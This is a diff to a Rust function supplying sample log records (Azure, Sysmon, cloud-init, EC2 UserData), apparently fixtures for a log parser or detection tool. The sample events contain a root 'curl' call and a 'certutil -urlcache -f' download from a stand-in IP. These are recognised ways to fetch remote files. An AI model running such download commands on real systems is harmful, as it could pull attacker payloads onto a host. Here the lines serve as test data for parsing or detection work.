@@ -58,7 +58,7 @@ pub fn example(f: Format) -> &'static str {
             r#"{"time":"2026-11-20T09:00:00.1234567Z","resourceId":"/SUBSCRIPTIONS/00000000-0000-0000-0000-000000000000/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.COMPUTE/VIRTUALMACHINES/VM-1","operationName":"MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE","category":"Administrative","resultType":"Start","resultSignature":"Started.","correlationId":"1f2e3d4c-5b6a-7980-a1b2-c3d4e5f60718","callerIpAddress":"203.0.113.9","level":"Information","properties":{"statusCode":"Created"}}"#
         }
         Format::AzureSyslog => {
-            r#"{"TimeGenerated":"2026-11-20T09:00:42.001Z","Computer":"vm-1","Facility":"user","SeverityLevel":"info","SyslogMessage":"type=AUOMS_EXECVE audit(1795166441.518:2042): syscall=execve success=yes exit=0 ppid=4200 pid=4242 user=root uid=0 comm="curl" exe="/usr/bin/curl" cmdline="curl -s http://198.51.100.23/" redactors= containerid=","ProcessName":"AUOMS_EXECVE","HostIP":"10.0.0.4","Type":"Syslog"}"#
+            r#"{"TimeGenerated":"2026-11-20T09:00:42.001Z","Computer":"vm-1","Facility":"user","SeverityLevel":"info","SyslogMessage":"type=AUOMS_EXECVE audit(1795166441.518:2042): syscall=execve success=yes exit=0 ppid=4200 pid=4242 user=root uid=0 comm=\"curl\" exe=\"/usr/bin/curl\" cmdline=\"curl -s http://198.51.100.23/\" redactors= containerid=","ProcessName":"AUOMS_EXECVE","HostIP":"10.0.0.4","Type":"Syslog"}"#
         }
         Format::Sysmon => {
             r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"vm-1","TimeCreated":{"#attributes":{"SystemTime":"2026-11-20T09:00:41.518Z"}}},"EventData":{"UtcTime":"2026-11-20 09:00:41.518","ProcessId":4242,"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://198.51.100.23/a a","ParentProcessId":4200,"ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"VM-1\\ci"}}}"##
@@ -66,7 +66,9 @@ pub fn example(f: Format) -> &'static str {
         Format::CloudInit => {
             "2026-11-20 09:00:41,518 - util.py[DEBUG]: Cloud-init v. 23.4 running 'modules:final' at Fri, 20 Nov 2026 09:00:41 +0000. Up 38.12 seconds."
         }
-        Format::UserData => "#cloud-config",
+        Format::UserData => {
+            r#"{"InstanceId":"i-0123456789abcdef0","UserData":{"Value":"I2Nsb3VkLWNvbmZpZwpwYWNrYWdlczogW25naW54XQo="}}"#
+        }
     }
 }
 
